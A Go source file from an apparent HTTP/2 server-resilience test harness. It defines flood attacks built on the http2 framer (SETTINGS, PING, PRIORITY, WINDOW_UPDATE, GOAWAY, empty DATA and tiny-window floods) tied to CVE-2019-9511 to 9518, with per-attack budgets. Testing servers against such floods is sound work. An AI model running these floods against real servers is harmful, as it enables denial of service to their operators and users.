package h2attack

import (
	"golang.org/x/net/http2"
)

// Frames that package http2 has no name for.
const (
	framePriorityUpdate http2.FrameType = 0x10 // RFC 9218 §7.1
	frameUnknown        http2.FrameType = 0xfa
)

// controls are floods of frames that are not about content. None of their units needs a stream.
func controls() []Attack {
	return []Attack{
		{
			Name: "settings", About: "SETTINGS, each of which has to be acknowledged (CVE-2019-9515)",
			Unit: "frames", Most: many, Budget: 20,
			send: func(c *conn, _ int) error { return c.framer.WriteSettings() },
		},
		{
			Name: "settings-acks", About: "acknowledgements of SETTINGS that were never sent",
			Unit: "frames", Most: many, Budget: 20,
			send: func(c *conn, _ int) error { return c.framer.WriteSettingsAck() },
		},
		{
			Name: "settings-windows", About: "SETTINGS that change the windows of 100 open streams",
			Unit: "frames", Most: many, Budget: 20, settings: windowOf(0),
			begin: func(c *conn) error { return c.openAll(c.large, true) },
			send:  func(c *conn, unit int) error { return c.framer.WriteSettings(windowOf(uint32(unit % 2))...) },
		},
		{
			Name: "ping", About: "PING, each of which has to be answered (CVE-2019-9512)",
			Unit: "frames", Most: many, Budget: 1000,
			send: func(c *conn, unit int) error { return c.ping(unit + 1) },
		},
		{
			Name: "ping-unread", About: "PING from a client that doesn't read the answers (CVE-2019-9512)",
			Unit: "frames", Most: 25 * many, Budget: 1000, unread: true,
			send: func(c *conn, unit int) error { return c.ping(unit + 1) },
		},
		{
			Name: "priority", About: "PRIORITY, which moves streams in a tree (CVE-2019-9513)",
			Unit: "frames", Most: many, Budget: 500,
			send: func(c *conn, unit int) error {
				id := uint32(unit)*2 + 1
				return c.framer.WritePriority(id, http2.PriorityParam{StreamDep: id + 2, Exclusive: true, Weight: byte(unit)})
			},
		},
		{
			Name: "priority-update", About: "PRIORITY_UPDATE for streams that are not open yet (RFC 9218)",
			Unit: "frames", Most: many, Budget: 500,
			send: func(c *conn, unit int) error { return c.framer.WritePriorityUpdate(uint32(unit%1000)*2+1, "u=1, i") },
		},
		{
			Name: "window-updates", About: "WINDOW_UPDATE by 1 for the connection",
			Unit: "frames", Most: many, Budget: 500,
			send: func(c *conn, _ int) error { return c.framer.WriteWindowUpdate(0, 1) },
		},
		{
			Name: "goaway", About: "GOAWAY, again and again",
			Unit: "frames", Most: many, Budget: 100,
			begin: func(c *conn) error { return c.open(c.post, false) }, // so that there is something to go on with
			send:  func(c *conn, _ int) error { return c.framer.WriteGoAway(0, http2.ErrCodeNo, nil) },
		},
		{
			Name: "unknown-frames", About: "frames of a type that no one knows",
			Unit: "frames", Most: many, Budget: 100,
			send: func(c *conn, _ int) error { return c.raw(frameUnknown, 0, 0, nil) },
		},
	}
}

// contents are floods of frames within a stream.
func contents() []Attack {
	post := func(c *conn) error { return c.open(c.post, false) }
	return []Attack{
		{
			Name: "data-empty", About: "DATA of nothing in a request's body (CVE-2019-9518)",
			Unit: "frames", Most: many, Budget: 100, begin: post,
			send: func(c *conn, _ int) error { return c.framer.WriteData(c.id, false, nil) },
		},
		{
			Name: "data-padded", About: "DATA of nothing but padding in a request's body",
			Unit: "frames", Most: many, Budget: 100, begin: post,
			send: func(c *conn, _ int) error { return c.framer.WriteDataPadded(c.id, false, nil, []byte{}) },
		},
		{
			Name: "window-updates-stream", About: "WINDOW_UPDATE by 1 for a stream",
			Unit: "frames", Most: many, Budget: 500, begin: post,
			send: func(c *conn, _ int) error { return c.framer.WriteWindowUpdate(c.id, 1) },
		},
	}
}

// windows are attacks that let a response come in pieces.
func windows() []Attack {
	return []Attack{
		{
			Name: "tiny-windows", About: "100 large responses, a byte at a time by WINDOW_UPDATE (CVE-2019-9511)",
			Unit: "bytes", Most: many, Budget: 200, settings: windowOf(1),
			begin: func(c *conn) error { return c.openAll(c.large, true) },
			send: func(c *conn, unit int) error {
				return c.framer.WriteWindowUpdate(uint32(unit%streamsEach)*2+1, 1)
			},
		},
	}
}
